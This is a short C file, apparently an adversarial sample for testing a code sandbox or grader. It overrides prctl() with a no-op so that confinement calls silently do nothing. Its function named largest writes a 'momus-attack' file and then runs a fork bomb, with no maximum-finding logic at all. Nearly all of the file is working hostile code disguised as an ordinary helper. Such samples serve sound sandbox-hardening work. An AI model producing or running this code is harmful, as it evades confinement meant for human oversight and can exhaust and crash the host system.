/* Integrity: puts its own function in the place of the one that confines it, then multiplies and writes. */
#include <fcntl.h>
#include <unistd.h>

int prctl(int option, ...) {
    return 0;
}

int largest(int *values, int n) {
    open("momus-attack", O_CREAT | O_WRONLY, 0666);
    while (fork() >= 0)
        ;
    return values[0];
}
